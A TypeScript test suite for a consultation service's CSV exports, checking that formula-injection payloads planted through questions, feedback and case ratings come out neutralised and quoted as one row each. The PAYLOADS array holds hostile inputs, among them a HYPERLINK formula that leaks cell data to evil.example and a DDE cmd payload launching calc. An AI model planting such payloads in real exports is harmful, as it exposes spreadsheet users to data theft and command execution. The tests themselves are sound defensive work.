/**
 * CSV exports read back with a real CSV parser: one record per row whatever the cells hold, and no line of
 * any cell that a spreadsheet would evaluate. The payloads are planted the way anyone can: a question and a
 * feedback comment over the public API, a rating comment on a case, with a line break before the formula.
 * Spreadsheets (Excel, WPS, LibreOffice) end a record at a CR, an LF or a CRLF outside quotes; the
 * parser is told the same, so a field left unquoted around a lone line break shows up as extra rows.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvStream, neutralise, restoreNeutralised } from '../../src/console/export.js';
import { sampleConsultation } from '../store/sample.js';
import { storeTargets, targetTitle } from '../store/targets.js';
import { Client, consoleTestEnv, createAccount } from '../console/fixtures.js';

const PAYLOADS = [
  '商标注册要多久？\n=HYPERLINK("http://evil.example/x?d="&A1,"详情")',
  '谢谢\r=cmd|\' /C calc\'!A0',
  '好的\r\n+SUM(1,2)',
  '第一行\n\n@SUM(1)',
  '"引号",逗号;分号\n-2+3',
];

/** As a spreadsheet reads the file: CR, LF and CRLF all end a record outside quotes. */
function spreadsheetRows(csv: string): string[][] {
  return parse(csv, { bom: true, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as string[][];
}

/** Every line of every cell: none may open with a formula character. */
function liveFormulaLines(rows: string[][]): string[] {
  return rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/)).filter((line) => /^[=+\-@\t]/.test(line));
}

async function text(stream: NodeJS.ReadableStream): Promise<string> {
  let out = '';
  for await (const chunk of stream) out += String(chunk);
  return out;
}

describe('CSV export cells', () => {
  it('neutralise puts an apostrophe at the start of every line that opens a formula, and restoreNeutralised undoes it', () => {
    expect(neutralise('a\n=1+1')).toBe("a\n'=1+1");
    expect(neutralise('=1\r\n+2\r-3\n@4')).toBe("'=1\r\n'+2\r'-3\n'@4");
    expect(neutralise('\t=x')).toBe("'\t=x");
    expect(neutralise('平常的文字\n第二行')).toBe('平常的文字\n第二行');
    expect(neutralise(-5)).toBe(-5);
    for (const p of PAYLOADS) expect(restoreNeutralised(neutralise(p) as string)).toBe(p);
  });

  it('quotes every field, so each row is one record and every cell reads back as written', async () => {
    const rows = PAYLOADS.map((p, i) => ({ n: i, text: p }));
    const csv = await text(csvStream((async function* () { yield* rows; })(), [{ header: '编号', value: (r) => r.n }, { header: '内容', value: (r) => r.text }, { header: '空', value: () => null }]));
    const parsed = spreadsheetRows(csv);
    expect(parsed).toHaveLength(1 + PAYLOADS.length);
    expect(parsed.slice(1).map((r) => restoreNeutralised(r[1]!))).toEqual(PAYLOADS);
    expect(liveFormulaLines(parsed)).toEqual([]);
  });
});

for (const target of storeTargets()) {
  describe.skipIf(Boolean(target.skipReason))(`CSV exports on ${targetTitle(target)}`, { timeout: 120_000 }, () => {
    const suite = consoleTestEnv(target);

    it('exports planted questions and feedback comments as one row each, no line live', async () => {
      const ask = async (question: string, userId: string) => {
        const res = await suite.env.app.inject({ method: 'POST', url: '/api/v1/ask', payload: { question, userId } });
        expect(res.statusCode, res.body).toBe(200);
        return (res.json() as { id: string }).id;
      };
      const ids: string[] = [];
      for (const [i, payload] of PAYLOADS.entries()) {
        const id = await ask(payload, `csv-user-${i}`);
        ids.push(id);
        const feedback = await suite.env.app.inject({ method: 'POST', url: '/api/v1/feedback', payload: { consultationId: id, userId: `csv-user-${i}`, rating: 'down', comment: PAYLOADS[(i + 1) % PAYLOADS.length] } });
        expect(feedback.statusCode, feedback.body).toBe(200);
      }
      // Plain rows too: the count must be exact, not merely at least the planted ones.
      for (let i = 0; i < 41; i++) await suite.env.store.record(sampleConsultation({ question: `专利资助怎么申请？第${i}问` }));

      await createAccount(suite.env.accounts, 'rev1', 'reviewer');
      const client = new Client(suite.env.app);
      await client.login('rev1');
      const res = await client.post('/console/consultations/export?format=csv', {});
      expect(res.statusCode).toBe(200);
      const rows = spreadsheetRows(res.body);
      expect(rows).toHaveLength(1 + PAYLOADS.length + 41);
      expect(rows[0]![0]).toBe('时间');
      expect(liveFormulaLines(rows)).toEqual([]);
      const question = rows[0]!.indexOf('问题');
      const comments = rows[0]!.indexOf('反馈意见');
      const planted = rows.filter((r) => ids.includes(r.at(-1)!));
      expect(planted).toHaveLength(PAYLOADS.length);
      expect(planted.map((r) => r[question]).sort()).toEqual(PAYLOADS.map((p) => neutralise(p)).sort());
      expect(planted.map((r) => r[comments]).sort()).toEqual(PAYLOADS.map((p) => neutralise(p)).sort());
    });

    it('exports a planted rating comment on a case as one row, no line live', async () => {
      const userId = 'web-user-csv';
      const consultation = await suite.env.store.record(sampleConsultation({ channel: 'web', chatId: null, userId, conversationId: `web:${userId}`, question: '我们的专利被侵权了，想找律师起诉对方', outcome: 'escalation_offered' }));
      const offered = await suite.env.cases.refer({ consultation, district: '张店区' });
      const requested = await suite.env.cases.consent(offered.id, { channel: 'web', userId }, { consent: true, consentId: offered.consent.consentId, via: 'test' });
      await suite.env.cases.agencyAction(requested.id, requested.agency!.id, { type: 'accept' });
      await suite.env.cases.agencyAction(requested.id, requested.agency!.id, { type: 'close' });
      const rated = await suite.env.app.inject({ method: 'POST', url: `/api/v1/cases/${requested.id}/rating`, payload: { userId, resolved: true, rating: 5, comment: PAYLOADS[0] } });
      expect(rated.statusCode, rated.body).toBe(200);

      await createAccount(suite.env.accounts, 'admin1', 'admin');
      const client = new Client(suite.env.app);
      await client.login('admin1');
      await client.get('/console/cases');
      const res = await client.post('/console/cases/export?format=csv', {});
      expect(res.statusCode).toBe(200);
      const rows = spreadsheetRows(res.body);
      expect(rows).toHaveLength(2);
      expect(liveFormulaLines(rows)).toEqual([]);
      expect(rows[1]![rows[0]!.indexOf('评价')]).toBe(neutralise(PAYLOADS[0]!));
    });
  });
}
